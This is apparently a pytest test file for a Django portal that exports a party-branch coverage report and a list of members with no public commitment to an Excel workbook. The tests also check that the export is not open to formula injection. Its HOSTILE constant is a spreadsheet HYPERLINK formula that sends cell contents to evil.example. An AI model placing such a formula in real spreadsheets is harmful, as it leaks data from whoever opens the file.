"""覆盖情况报表 (portal/coverage_export.py): the dashboard's per-child figures and the
blank-spot members, one workbook with two sheets."""
import datetime
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from orgs.models import AuditEvent, MemberCategory
from portal import coverage
from portal.coverage_export import coverage_export
from tests.commitments.publishing import published
from tests.conftest import make_member

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取")'
TODAY = datetime.date(2010, 11, 15)


def _book(handle):
    data = handle.read()
    return data, load_workbook(io.BytesIO(data))


def test_report_has_the_dashboard_figures_and_the_blank_spots(world):
    make_member(world.branch_a, HOSTILE, phone="13800001111", category=MemberCategory.LEADER)
    published(world, member=world.member_a)
    make_member(world.branch_d, "他局党员")  # another committee: not listed
    data, wb = _book(coverage_export(actor=world.committee_secretary, org=world.committee,
                                     campaign=world.campaign, today=TODAY))
    assert wb.sheetnames == ["覆盖情况", "空白点党员"]
    figures = list(wb["覆盖情况"].iter_rows(values_only=True))
    assert figures[0][0] == "市某局机关党委2010年创先争优公开承诺覆盖情况"
    assert figures[1][0].startswith("统计至：2010年11月15日")
    assert figures[2][:6] == ("党组织", "应承诺党组织", "已承诺（已提交）", "已公开承诺", "未承诺（含草稿）", "在册党员")
    body = {r[0]: r for r in figures[3:]}
    # The same numbers as the dashboard.
    cov = coverage.coverage_for(world.committee_secretary, world.committee, world.campaign, today=TODAY)
    for row in cov.rows:
        name = f"{row.org.name}（本级）" if row.is_self else row.org.name
        f = row.figures
        assert body[name][1:11] == (f.orgs_total, f.orgs_committed, f.orgs_published, f.orgs_blank, f.members_total,
                                    f.members_pledged, f.members_exempt, f.members_deferred, f.members_blank,
                                    f.members_rate)
    a = body["第一党支部"]
    assert a[5:10] == (3, 1, 0, 0, 2)  # 在册 3: 李娜 pledged, 王堃 and the hostile name blank
    assert a[10] == pytest.approx(33.3)
    assert a[16] is None  # the window is open: no 满意率
    total = body["合计"]
    assert total[5] == cov.total.members_total == 5 and total[9] == cov.total.members_blank == 4
    ws = wb["覆盖情况"]
    cell = ws.cell(row=4, column=6)
    assert cell.data_type == "n"

    blank = list(wb["空白点党员"].iter_rows(values_only=True))
    assert blank[0][0] == "市某局机关党委2010年创先争优公开承诺空白点党员名单"
    assert blank[2] == ("序号", "姓名", "所在党支部", "党员类别", "党员类型", "情况")
    rows = blank[3:]
    assert [r[1] for r in rows] == [HOSTILE, "王堃", "张伟", "陈喆"]  # tree order, then name
    assert rows[0] == (1, HOSTILE, "第一党支部", "担任领导职务的党员", "正式党员", "空白点（未填写承诺）")
    assert rows[1][3] == "离退休党员"
    # The hostile name is a string cell, never a formula; no phone, birth month or join date.
    name_cell = wb["空白点党员"].cell(row=4, column=2)
    assert name_cell.data_type == "s" and name_cell.value == HOSTILE
    for n in (1, 2):
        assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/sheet{n}.xml").decode()
    flat = [v for r in rows for v in r]
    assert "13800001111" not in flat
    assert not any(isinstance(v, datetime.datetime) for v in flat)
    event = AuditEvent.objects.get(action="coverage.export")
    assert event.organisation == world.committee and event.detail["campaign"] == 2010


def test_satisfaction_rate_appears_once_the_window_has_closed(world):
    data, wb = _book(coverage_export(actor=world.committee_secretary, org=world.committee,
                                     campaign=world.campaign, today=datetime.date(2011, 1, 5)))
    figures = list(wb["覆盖情况"].iter_rows(values_only=True))
    assert "群众满意率为评议结束后的统计" in figures[1][0]


def test_query_count_does_not_grow_with_rows(world):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            _book(coverage_export(actor=world.city_secretary, org=world.root, campaign=world.campaign, today=TODAY))
        return len(ctx.captured_queries)

    count()  # warm the caches (grants, content types)
    few = count()
    for n in range(12):
        make_member(world.branch_b, f"党员{n}")
        make_member(world.branch_d, f"群众{n}")
    published(world, member=world.member_a)
    assert count() == few


def test_download_view(world, as_user):
    response = as_user(world.staff_a).get(reverse("portal:coverage_xlsx"), {"org": world.branch_a.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    names = [r[1] for r in wb["空白点党员"].iter_rows(min_row=4, values_only=True)]
    assert names == ["李娜", "王堃"]
    assert AuditEvent.objects.filter(action="coverage.export", organisation=world.branch_a).count() == 1


def test_dashboard_and_blank_list_link_to_the_report(world, as_user):
    client = as_user(world.staff_a)
    url = reverse("portal:coverage_xlsx")
    assert url in client.get(reverse("portal:coverage"), {"org": world.branch_a.pk}).content.decode()
    assert url in client.get(reverse("portal:coverage_members"),
                             {"org": world.branch_a.pk, "state": "blank"}).content.decode()


@pytest.mark.parametrize("who", ["staff_a", "outsider", "member_user_a", "auditor"])
def test_an_organisation_out_of_reach_is_404(world, as_user, who):
    response = as_user(getattr(world, who)).get(reverse("portal:coverage_xlsx"), {"org": world.branch_b.pk})
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="coverage.export").exists()
